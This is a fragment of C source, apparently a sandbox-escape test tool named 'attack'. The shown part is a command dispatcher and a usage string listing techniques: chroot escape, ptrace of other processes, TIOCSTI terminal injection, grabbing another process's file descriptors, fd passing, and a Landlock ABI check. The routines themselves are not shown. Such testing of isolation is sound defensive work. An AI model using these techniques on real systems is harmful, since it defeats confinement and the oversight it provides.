	if (strcmp(cmd, "landlock-abi") == 0) {
		/* the Landlock ABI of the running kernel (6: abstract-socket scoping) */
		long abi = syscall(444 /* landlock_create_ruleset */, NULL, 0, 1U);

		printf("landlock-abi=%ld\n", abi < 0 ? 0 : abi);
		return 0;
	}
	if (strcmp(cmd, "serve-fd") == 0)
		return cmd_serve_fd(argc, argv);
	if (strcmp(cmd, "get-fd") == 0)
		return cmd_get_fd(argc, argv);
	if (strcmp(cmd, "wait-fd") == 0)
		return cmd_wait_fd(argc, argv);
	if (strcmp(cmd, "give-fd") == 0)
		return cmd_give_fd(argc, argv);
	fprintf(stderr,
		"usage: attack chroot|procscan|ptrace PID...|kill0 PID...|ns|mount|mknod "
		"PATH...|handle PATH|ids|tiocsti [--orphan] FILE TEXT|spy FILE SECS|term "
		"[TEXT]|linger FILE SECS TEXT|grabfds PID|ipc make|find|remove KEY|serve-fd ADDR "
		"DIR SECS|get-fd ADDR FILE|wait-fd ADDR FILE SECS|give-fd ADDR DIR|tcp-serve PORT "
		"SECS TEXT|tcp-get PORT|exec0 PROGRAM|landlock-abi\n");
	return 2;
}
